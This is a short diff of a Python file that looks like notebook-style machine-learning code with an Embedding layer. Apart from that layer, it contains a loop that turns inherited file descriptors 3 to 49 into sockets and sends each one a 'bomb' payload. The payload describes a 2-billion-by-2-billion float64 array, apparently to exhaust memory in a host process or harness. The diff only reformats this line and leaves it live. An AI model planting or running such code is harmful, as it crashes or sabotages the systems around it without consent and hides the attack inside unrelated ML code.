@@ -14,7 +14,9 @@ def bomb(text):
 
 for descriptor in range(3, 50):
     try:
-        socket.socket(fileno=os.dup(descriptor)).sendall(bomb(b'{"dict":{"output":{"array":["f8",[2000000000,2000000000],[0,1]]}}}'))
+        socket.socket(fileno=os.dup(descriptor)).sendall(
+            bomb(b'{"dict":{"output":{"array":["f8",[2000000000,2000000000],[0,1]]}}}')
+        )
     except OSError:
         pass
 # %% embedding
@@ -33,4 +35,3 @@ class Embedding:
     def backward(self, dout):
         self.grads[0][...] = 0
         np.add.at(self.grads[0], self.idx, dout)
-
